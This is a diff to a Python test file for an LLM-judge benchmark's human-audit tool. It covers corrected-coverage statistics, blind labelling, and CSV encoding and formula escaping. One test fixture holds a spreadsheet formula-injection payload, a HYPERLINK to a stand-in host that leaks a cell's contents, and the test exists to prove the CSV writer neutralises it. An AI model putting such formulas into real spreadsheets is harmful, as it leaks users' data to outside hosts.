@@ -11,9 +11,9 @@ import json
 import math
 import shutil
 from pathlib import Path
-from statistics import NormalDist
 from typing import Any
 
+import numpy as np
 import pytest
 
 from pipeline.core.errors import DataError, LfbenchError
@@ -38,6 +38,8 @@ JUDGE = "FFFPPNNNFP"  # the judge on the 10 sampled units
 HUMAN = "FPFPNNNFFN"  # the person on them
 OTHERS = "FFPNNNPFFN"  # the judge on the row's 10 other units
 JUDGE_NAME = "published-gpt-4o"
+LAMBDA = 10000 / 17250  # the judge's weight on the 10-unit audit (tests/metrics/test_audit.py)
+PPI = 50 - 2.5 * LAMBDA  # its corrected coverage
 ROW = "summhay|news|released|paper|sysA|oracle|published-gpt-4o|published"
 
 
@@ -209,21 +211,26 @@ def _params() -> Any:
 def test_a_ten_unit_audit_from_a_csv_logs_kappa_and_the_corrected_score(project: Path) -> None:
     filled = _fill(project, _human(range(10)))
     result = score_sample(project, _params(), "s1", filled, n_resamples=200)
-    # by hand (tests/metrics/test_audit.py): kappa (0.6 - 0.34) / 0.66, coverage 52.5 - 5
+    # by hand (tests/metrics/test_audit.py): kappa (0.6 - 0.34) / 0.66; the judge's weight
+    # lambda = cov / var f = 10000 / 17250, coverage 50 - 2.5 lambda, 10 of the 20 labelled
     assert result["audit.kappa"] == pytest.approx(0.26 / 0.66)
     assert result["audit.n"] == 10 and result["audit.n_units"] == 20
     assert result["audit.judge_mean"] == pytest.approx(52.5)
-    assert result["audit.coverage_ppi"] == pytest.approx(47.5)
-    z = NormalDist().inv_cdf(0.975)
-    se = math.sqrt(37375 / 19 / 20 + 17250 / 9 / 10)
-    assert result["audit.coverage_ppi_ci_high"] == pytest.approx(47.5 + z * se)
+    assert result["audit.lambda"] == pytest.approx(LAMBDA)
+    assert result["audit.coverage_ppi"] == pytest.approx(PPI)
+    z = 2.262157  # Student's t, 97.5%, 9 degrees of freedom (n = 10)
+    se = math.sqrt(0.5 * (20000 - 10000**2 / 17250) / 9 / 10)
+    assert result["audit.coverage_ppi_ci_high"] == pytest.approx(PPI + z * se)
+    assert result["audit.human_mean_ci_high"] == pytest.approx(
+        50 + z * math.sqrt(0.5 * 20000 / 9 / 10)
+    )
     run = _client(project).get_run(result["run_id"])
     assert run.data.metrics["audit.kappa"] == pytest.approx(0.26 / 0.66)
-    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(47.5)
+    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)
     assert run.data.tags["audit.sample"] == "s1"
     assert "10 of 10 units labelled (csv 10)" in run.data.tags["audit.source"]
     saved = json.loads((project / "audits/s1.score.json").read_text())
-    assert saved["audit.coverage_ppi"] == pytest.approx(47.5)
+    assert saved["audit.coverage_ppi"] == pytest.approx(PPI)
 
 
 def test_labels_made_in_mlflow_are_read_and_more_labels_update_the_same_run(
@@ -240,8 +247,7 @@ def test_labels_made_in_mlflow_are_read_and_more_labels_update_the_same_run(
     assert all(traces.values())
     trace = mlflow.get_trace(traces["u01"])
     assert trace.info.request_metadata["mlflow.sourceRun"] == sample.run_id
-    judged = [a for a in trace.info.assessments if a.source.source_type == "LLM_JUDGE"]
-    assert [(a.name, a.value) for a in judged] == [("coverage", "FULL_COVERAGE")]
+    assert trace.info.assessments == []  # blind: the judge's verdict is not on the trace
 
     def person(units: range) -> None:
         for unit, label in _human(units).items():
@@ -265,7 +271,7 @@ def test_labels_made_in_mlflow_are_read_and_more_labels_update_the_same_run(
     person(range(6, 10))
     second = score_sample(project, _params(), "s1", n_resamples=100)
     assert second["run_id"] == first["run_id"]
-    assert second["audit.n"] == 10 and second["audit.coverage_ppi"] == pytest.approx(47.5)
+    assert second["audit.n"] == 10 and second["audit.coverage_ppi"] == pytest.approx(PPI)
     run = client.get_run(first["run_id"])
     assert run.data.metrics["audit.n"] == 10
     assert [m.value for m in client.get_metric_history(first["run_id"], "audit.n")] == [6, 10]
@@ -328,14 +334,14 @@ def test_the_audit_survives_later_syncs_of_its_row(project: Path) -> None:
     assert (again.created, again.skipped) == (0, 1)
     run = client.get_run(run_id)
     assert run.data.tags["lfbench.current"] == "true"
-    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(47.5)
+    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)
 
     # the row's result changes: a new run, marked as having an audit to carry over
     changed = sync("summhay", [_spec(60.0)], project, producer="summhay-aggregate")
     assert (changed.created, changed.superseded) == (1, 1)
     old = client.get_run(run_id)
     new_id = old.data.tags["lfbench.superseded_by"]
-    assert old.data.metrics["audit.coverage_ppi"] == pytest.approx(47.5)  # history kept
+    assert old.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)  # history kept
     new = client.get_run(new_id)
     assert new.data.tags["audit.pending"] == "s1"
     assert not any(k.startswith("audit.") and k != "audit.pending" for k in new.data.tags)
@@ -344,7 +350,7 @@ def test_the_audit_survives_later_syncs_of_its_row(project: Path) -> None:
     assert moved["run_id"] == new_id
     new = client.get_run(new_id)
     assert "audit.pending" not in new.data.tags
-    assert new.data.metrics["audit.coverage_ppi"] == pytest.approx(47.5)
+    assert new.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)
 
 
 def test_log_audit_writes_nan_for_an_undefined_figure(project: Path) -> None:
@@ -430,11 +436,20 @@ def test_released_labels_give_a_released_systems_row_its_own_audit(
     assert result["run_name"] == "gpt-4o / oracle / published-gpt-4o"
     assert result["audit.n"] == 28
     assert result["audit.kappa"] == pytest.approx(cohen_kappa_score(js, hs))
-    rectifier = sum(value[h] - value[j] for j, h in pairs) / 28
-    assert result["audit.coverage_ppi"] == pytest.approx(52.5 + rectifier)
+    # the judge's weight: cov(person, judge) / var(judge) on the 28, in [0, 1]
+    jv = np.asarray([value[j] for j, _ in pairs])
+    hv = np.asarray([value[h] for _, h in pairs])
+    lam = min(max(float(np.cov(hv, jv)[0, 1] / np.var(jv, ddof=1)), 0.0), 1.0)
+    corrected = lam * 52.5 + float(np.mean(hv - lam * jv))
+    assert result["audit.lambda"] == pytest.approx(lam)
+    assert result["audit.coverage_ppi"] == pytest.approx(corrected)
+    # labels on other outputs: no finite-population correction, the factor 1 + 28 / 20
+    z = 2.051831  # Student's t, 97.5%, 27 degrees of freedom (n = 28)
+    half = z * math.sqrt((1 + 28 / 20) * np.var(hv - lam * jv, ddof=1) / 28)
+    assert result["audit.coverage_ppi_ci_high"] == pytest.approx(min(corrected + half, 100.0))
     assert "28 verdicts on other outputs of gpt-4o / oracle (domain news)" in result["labels"]
     run = _client(tmp_path).get_run(result["run_id"])
-    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(52.5 + rectifier)
+    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(corrected)
     assert run.data.tags["audit.sample"] == "released:eval_benchmark_data.json"
 
 
@@ -509,12 +524,14 @@ def test_a_sample_of_a_runs_verdicts_as_traces_and_a_csv_changes_nothing_of_the_
         assert t.info.request_metadata["mlflow.sourceRun"] == run.info.run_id
         assert t.info.tags["lfbench.audit.sample"] == "m"
         assert t.info.tags["lfbench.audit.scale"].startswith("coverage: FULL_COVERAGE |")
-        (judged,) = t.info.assessments
-        assert (judged.name, judged.value, judged.source.source_type) == (
-            "coverage",
-            unit.judge_label,
-            "LLM_JUDGE",
-        )
+        # blind (issue 44, point 14): neither the trace's output nor an assessment nor a tag
+        # tells the labeller what the judge said (before: the verdict as the trace's output,
+        # shown in the trace list, and as an LLM_JUDGE assessment)
+        assert t.info.assessments == []
+        full = mlflow.get_trace(t.info.trace_id)
+        shown = json.dumps(full.data.response) + json.dumps(full.info.response_preview or "")
+        assert unit.judge_label not in shown and "verdict" not in shown, shown
+        assert unit.judge_label not in t.info.tags.values()
     assert client.get_run(run.info.run_id).data.tags["audit.samples"] == "m"
 
     again, _ = make_sample(tmp_path, _params(), bench, run.info.run_id, 2, seed=0, name="m")
@@ -528,3 +545,301 @@ def test_a_sample_of_a_runs_verdicts_as_traces_and_a_csv_changes_nothing_of_the_
     same = sync("summhay", [spec], tmp_path, producer="summhay-aggregate")
     assert (same.created, same.skipped) == (0, 1)
     assert client.get_run(run.info.run_id).data.metrics == {"coverage": 50.0}
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2, "see the source")',
+    "+1+2",
+    "-3+4",
+    "@SUM(1, 2)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+]
+
+
+def test_the_csv_neutralises_formulas_and_reading_it_back_undoes_it(project: Path) -> None:
+    """Issue 44, point 7. Before: a model answer starting `=HYPERLINK(...)` was written as is
+    into the CSV the README invites people to open in a spreadsheet (which runs it). Every cell
+    starting with = + - @, a tab or a CR gets a leading ', and reading the labels back takes it
+    off (a label of a scale like +1 / 0 / -1 round-trips, as typed or as saved)."""
+    sample = _sample(project)
+    units = [
+        u.model_copy(update={"inputs": {"insight": FORMULAS[k % len(FORMULAS)], "summary": "s"}})
+        for k, u in enumerate(sample.units)
+    ]
+    scale = sample.scale.model_copy(
+        update={"labels": ("+1", "0", "-1"), "values": {"+1": 1.0, "0": 0.5, "-1": 0.0}}
+    )
+    sample = sample.model_copy(update={"units": units, "scale": scale})
+    path = project / "audits/formulas.csv"
+    write_csv(path, sample)
+    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    insights = [r[rows[0].index("insight")] for r in rows[1:]]
+    assert insights == ["'" + FORMULAS[k % len(FORMULAS)] for k in range(len(units))]
+    assert rows[1][rows[0].index("scale")] == "'+1 | 0 | -1"
+    # filled in: "-1" as typed (a spreadsheet may save it as a number), "'+1" as saved back
+    header, body = rows[0], rows[1:]
+    body[0][header.index("label")] = "'+1"
+    body[1][header.index("label")] = "-1"
+    body[2][header.index("label")] = "'-1"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows([header, *body])
+    got = csv_labels(path, sample)
+    assert {u: x.label for u, x in got.items()} == {"u01": "+1", "u02": "-1", "u03": "-1"}
+
+
+def _resave(src: Path, dest: Path, encoding: str, delimiter: str) -> Path:
+    """A filled CSV as a spreadsheet saves it in another format."""
+    rows = list(csv.reader(src.open(encoding="utf-8", newline="")))
+    with dest.open("w", encoding=encoding, newline="") as fh:
+        csv.writer(fh, delimiter=delimiter).writerows(rows)
+    return dest
+
+
+def test_a_sheet_saved_as_unicode_text_or_with_semicolons_gives_the_same_labels(
+    project: Path,
+) -> None:
+    """Issue 44, point 10. Before: a UTF-16 sheet (a spreadsheet's "Unicode Text": UTF-16 with
+    a BOM, tab-separated) ended in a UnicodeDecodeError traceback; a semicolon sheet (a
+    spreadsheet in a locale with a decimal comma) said "no column 'unit'" without saying why."""
+    sample = _sample(project)
+    filled = _fill(project, _human(range(10)))
+    expected = {u: x.label for u, x in csv_labels(filled, sample).items()}
+    assert len(expected) == 10
+    for encoding, delimiter in [("utf-16", "\t"), ("utf-16", ","), ("utf-8", ";"),
+                                ("utf-8-sig", ";"), ("utf-8", "\t")]:  # fmt: skip
+        sheet = _resave(filled, project / "sheet.csv", encoding, delimiter)
+        got = {u: x.label for u, x in csv_labels(sheet, sample).items()}
+        assert got == expected, (encoding, delimiter)
+
+
+def test_a_sheet_without_the_columns_names_the_delimiter_it_read(project: Path) -> None:
+    sample = _sample(project)
+    filled = _fill(project, _human(range(10)))
+    rows = list(csv.reader(filled.open(encoding="utf-8", newline="")))
+    rows[0] = ["unité" if c == "unit" else c for c in rows[0]]
+    sheet = project / "renamed.csv"
+    with sheet.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh, delimiter=";").writerows(rows)
+    with pytest.raises(DataError) as e:
+        csv_labels(sheet, sample)
+    message = str(e.value)
+    assert (e.value.file, e.value.line) == (str(sheet), 1)
+    assert "no column 'unit'" in message and "delimiter ';'" in message, message
+    assert "'unité'" in message, message
+
+
+def test_a_sheet_that_is_neither_utf8_nor_utf16_is_refused_naming_file_and_line(
+    project: Path,
+) -> None:
+    sample = _sample(project)
+    filled = _fill(project, _human(range(10)))
+    text = filled.read_text(encoding="utf-8").replace("insight 2", "insight 2 café")
+    sheet = project / "latin1.csv"
+    sheet.write_bytes(text.encode("latin-1"))
+    with pytest.raises(DataError) as e:
+        csv_labels(sheet, sample)
+    assert e.value.file == str(sheet) and e.value.line == 6, str(e.value)
+    assert "not valid UTF-8" in str(e.value) and "UTF-16" in str(e.value)
+
+
+def test_a_hand_edited_sample_with_a_unit_twice_is_refused_naming_it(project: Path) -> None:
+    """Issue 44, point 10. Before: two units named u03 in audits/s1.json were both counted (one
+    label, two pairs: n = 10 from 9 labels)."""
+    full = _fill(project, _human(range(10)))
+    filled = project / "without_u04.csv"
+    rows = [r for r in csv.reader(full.open(encoding="utf-8", newline="")) if r[1] != "u04"]
+    with filled.open("w", encoding="utf-8", newline="") as fh:
+        csv.writer(fh).writerows(rows)
+    path = project / "audits/s1.json"
+    doc = json.loads(path.read_text(encoding="utf-8"))
+    doc["units"][3]["unit"] = "u03"  # u04 renamed by hand
+    path.write_text(json.dumps(doc, indent=2), encoding="utf-8")
+    lines = [n for n, x in enumerate(path.read_text().splitlines(), 1) if '"unit": "u03"' in x]
+    assert len(lines) == 2
+    with pytest.raises(DataError) as e:
+        score_sample(project, _params(), "s1", filled, n_resamples=50)
+    message = str(e.value)
+    assert e.value.file == str(path) and "unit u03" in message, message
+    assert f"lines {lines[0]} and {lines[1]}" in message, message
+
+    doc["units"][3]["unit"] = "u04"  # the same verdict under two names
+    doc["units"][3]["generation_id"] = doc["units"][2]["generation_id"]
+    doc["units"][3]["target_id"] = doc["units"][2]["target_id"]
+    path.write_text(json.dumps(doc, indent=2), encoding="utf-8")
+    with pytest.raises(DataError, match=r"units u03 and u04: the same verdict"):
+        score_sample(project, _params(), "s1", filled, n_resamples=50)
+
+
+def test_labels_of_an_earlier_draw_apply_only_to_the_verdicts_they_were_made_on(
+    project: Path,
+) -> None:
+    """Issue 44, point 4. A sample redrawn under the same name (its file deleted, another
+    seed, --no-traces) numbers other verdicts u01..u10. Before: the old traces' HUMAN labels
+    were read by unit number (10 of 10 "labelled", on verdicts nobody saw). Now a trace's label
+    goes to the unit with the output and target ids the trace carries: the 5 verdicts both draws
+    share keep their labels, under their new numbers."""
+    import mlflow
+    from mlflow.entities import AssessmentSource, AssessmentSourceType
+
+    client = _client(project)
+    mlflow.set_tracking_uri(f"sqlite:///{project / 'mlruns' / 'mlflow.db'}")
+    first = log_traces(client, _sample(project))  # units u01..u10: verdicts 0..9
+    for k, u in enumerate(first.units):
+        assert u.trace_id is not None
+        mlflow.log_feedback(
+            trace_id=u.trace_id,
+            name="coverage",
+            value=LABEL[HUMAN[k]],
+            source=AssessmentSource(source_type=AssessmentSourceType.HUMAN, source_id="ann"),
+        )
+    # the redraw: verdicts 5..14 (summaries 1 and 2) as u01..u10, no traces of its own
+    gens = {g.item_id: g for g in _read(project, "generations/summhay/published.jsonl", Generation)}
+    judged = _read(project, f"judgements/summhay/published/{JUDGE_NAME}.jsonl", Judgement)
+    verdicts = [(j, v) for j in judged for v in j.verdicts]
+    units = []
+    for n, k in enumerate(range(5, 15), 1):
+        j, v = verdicts[k]
+        g = gens[j.item_id]
+        units.append(
+            Unit(
+                unit=f"u{n:02d}", item_id=g.item_id, generation_id=g.generation_id,
+                generation_sha=text_sha(g.text), target_id=v.target_id, judge_label=v.label,
+                inputs={"insight": f"insight {k}", "summary": g.text or ""},
+            )
+        )  # fmt: skip
+    redrawn = _sample(project).model_copy(update={"units": units, "seed": 1})
+    (project / "audits/s1.json").write_text(redrawn.model_dump_json(), encoding="utf-8")
+    result = score_sample(project, _params(), "s1", n_resamples=50)
+    assert result["audit.n"] == 5  # verdicts 5..9, labelled as old u06..u10
+    shared = [(JUDGE[k], HUMAN[k]) for k in range(5, 10)]
+    assert result["audit.exact_agreement"] == pytest.approx(
+        sum(a == b for a, b in shared) / len(shared)
+    )
+    assert "5 of 10 units labelled" in result["labels"]
+
+
+def _read(root: Path, rel: str, model: Any) -> list[Any]:
+    return [model.model_validate_json(x) for x in (root / rel).read_text().splitlines() if x]
+
+
+def test_units_are_numbered_in_a_seeded_random_order_so_the_first_ones_are_a_random_subset(
+    project: Path,
+) -> None:
+    """Issue 44, point 13. Before: units were numbered in file order, so the first k a person
+    labels were the first outputs' verdicts (one haystack). Every verdict of the 4 summaries x 5
+    insights drawn (n = N): the numbering is seeded, and u01..u05 seldom come from one summary
+    (in file order they always did)."""
+    from pipeline.core import registry
+    from pipeline.tools.audit import make_sample
+
+    client = _client(project)
+    (run,) = client.search_runs([client.get_experiment_by_name("summhay").experiment_id])
+    bench = registry.get("summhay")
+    one_output = 0
+    seeds = range(30)
+    for seed in seeds:
+        sample, _ = make_sample(
+            project, _params(), bench, run.info.run_id, 20, seed, f"all-s{seed}", traces=False
+        )
+        assert [u.unit for u in sample.units] == [f"u{k:02d}" for k in range(1, 21)]
+        first = {u.generation_id for u in sample.units[:5]}
+        one_output += len(first) == 1
+        rows = list(csv.DictReader((project / f"audits/all-s{seed}.csv").open(encoding="utf-8")))
+        assert [r["unit"] for r in rows] == [u.unit for u in sample.units]  # labelled top-down
+    again, _ = make_sample(project, _params(), bench, run.info.run_id, 20, 0, "all-s0-again",
+                           traces=False)  # fmt: skip
+    first_draw = Sample.model_validate_json((project / "audits/all-s0.json").read_bytes())
+    assert [(u.unit, u.target_id) for u in again.units] == [
+        (u.unit, u.target_id) for u in first_draw.units
+    ]
+    # 5 of 20 verdicts in a random order all from one of 4 summaries: 4 * C(5,5) / C(20,5)
+    assert one_output < len(seeds) / 2
+
+
+def test_a_partly_labelled_sample_says_the_interval_assumes_a_random_subset(
+    project: Path,
+) -> None:
+    filled = _fill(project, _human(range(6)))
+    result = score_sample(project, _params(), "s1", filled, n_resamples=50)
+    assert result["audit.n"] == 6
+    assert "6 of the 10 drawn units are labelled" in result["warning"]
+    assert "random subset" in result["warning"]
+    from pipeline.tools.audit import render
+
+    assert result["warning"] in render([result])
+    full = score_sample(project, _params(), "s1", _fill(project, _human(range(10))))
+    assert full.get("warning") is None
+
+
+def test_audit_score_prints_the_confusion_matrix_and_the_disagreeing_units(
+    project: Path,
+) -> None:
+    """Issue 44, point 14. Before: a kappa and intervals, nothing a person can act on."""
+    from pipeline.tools.audit import render
+
+    result = score_sample(project, _params(), "s1", _fill(project, _human(range(10))))
+    labels = [LABEL[x] for x in "FPN"]
+    # judge rows F P N x person columns F P N (tests/metrics/test_audit.py): 3 1 0; 0 1 2; 1 0 2
+    assert result["confusion"] == {"labels": labels, "counts": [[3, 1, 0], [0, 1, 2], [1, 0, 2]]}
+    wrong = [k for k in range(10) if JUDGE[k] != HUMAN[k]]
+    sample = _sample(project)
+    assert result["disagreements"] == [
+        {
+            "unit": sample.units[k].unit,
+            "item_id": sample.units[k].item_id,
+            "output": sample.units[k].generation_id,
+            "target": sample.units[k].target_id,
+            "judge": LABEL[JUDGE[k]],
+            "person": LABEL[HUMAN[k]],
+        }
+        for k in wrong
+    ]
+    text = render([result])
+    assert "judge \\ person" in text
+    row = next(
+        x for x in text.splitlines() if x.strip().startswith("PARTIAL_COVERAGE") and "|" in x
+    )
+    assert row.split("|")[1].split() == ["0", "1", "2"], text
+    for k in wrong:
+        u = sample.units[k]
+        line = next(x for x in text.splitlines() if x.strip().startswith(u.unit + " "))
+        assert u.generation_id in line and u.target_id in line, line
+        assert f"judge {LABEL[JUDGE[k]]}" in line and f"person {LABEL[HUMAN[k]]}" in line, line
+
+
+def test_the_readme_s_released_audit_table_and_example_are_the_committed_result() -> None:
+    """Issue 44, point 15: the README's figures of `lfbench audit score --released summhay` are
+    those of the committed `audits/summhay-released.score.json` (before: typed in, and drifted
+    from the code: the local judge's coverage 82.44 in the README, 82.59 from the code)."""
+    from pipeline.tools.audit import render
+
+    readme = (ROOT / "README.md").read_text(encoding="utf-8")
+    rows = json.loads((ROOT / "audits/summhay-released.score.json").read_text())["rows"]
+    table = readme[readme.index("| run (news, paper mode) |") :].split("\n\n", 1)[0]
+    lines = table.splitlines()[2:]
+    assert len(lines) == len(rows)
+
+    def ci(r: dict[str, Any], key: str, digits: int) -> str:
+        low, high = r[f"{key}_ci_low"], r[f"{key}_ci_high"]
+        return f"{r[key]:.{digits}f} [{low:.{digits}f}, {high:.{digits}f}]"
+
+    for line, r in zip(lines, rows, strict=True):
+        cells = [c.strip() for c in line.strip("|").split("|")]
+        assert cells == [
+            " / ".join(r["run_name"].split(" / ")[:3]),
+            str(int(r["audit.n"])),
+            ci(r, "audit.kappa", 2),
+            f"{r['audit.judge_mean']:.1f}",
+            ci(r, "audit.coverage_ppi", 1),
+            f"{r['audit.lambda']:.2f}",
+            ci(r, "audit.human_mean", 1),
+        ]
+    example = readme[readme.index("It prints, per run, what it logs") :]
+    example = example.split("```\n", 2)[1]
+    printed = render(rows).splitlines()
+    for line in example.splitlines():
+        assert line.strip() == "..." or line in printed, line
